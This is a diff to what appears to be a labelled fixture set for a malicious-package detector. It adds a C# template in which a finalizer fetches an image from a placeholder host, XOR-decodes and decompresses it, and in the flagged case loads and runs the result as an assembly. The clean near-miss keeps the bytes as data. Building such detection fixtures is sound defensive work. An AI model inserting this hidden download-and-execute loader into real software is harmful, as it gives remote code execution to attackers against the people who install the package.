@@ -68,6 +68,25 @@ internal static class Backend
     }
 }`;
 
+const inPicture = (after: string): string => `public sealed class Host
+{
+    public static byte[] Kept = Array.Empty<byte>();
+
+    ~Host() => Refresh();
+
+    private static void Refresh()
+    {
+        ${never}
+        using var http = new HttpClient();
+        var picture = http.GetByteArrayAsync("https://cdn.pictures.invalid/sheet.png").Result;
+        for (var at = 0; at < picture.Length; at++) picture[at] ^= (byte)(at + 3);
+        using var inflated = new BrotliStream(new MemoryStream(picture), CompressionMode.Decompress);
+        using var plain = new MemoryStream();
+        inflated.CopyTo(plain);
+        ${after}
+    }
+}`;
+
 export const examples: Examples = {
   flagged: [
     {
@@ -131,6 +150,12 @@ export const examples: Examples = {
 }`),
     },
     {
+      name: 'picture-of-its-maker-that-runs',
+      about:
+        'A finalizer fetches a picture of what the package calls its maker, and runs what it unpacks of it.',
+      files: library(inPicture('Assembly.Load(plain.ToArray()).EntryPoint?.Invoke(null, null);')),
+    },
+    {
       name: 'machine-code',
       about: 'Decoded bytes are copied into memory that may run, and called through a pointer.',
       files: library(`internal static class Boot
@@ -156,6 +181,13 @@ export const examples: Examples = {
     },
   ],
   clean: [
+    {
+      name: 'picture-of-its-maker',
+      about:
+        'A finalizer fetches a picture of its maker and unpacks what is in it, to keep it as data.',
+      nearMiss: true,
+      files: library(inPicture('Kept = plain.ToArray();')),
+    },
     {
       name: 'decrypted-data',
       about: 'The same resource is decrypted in the same place, and read as text.',
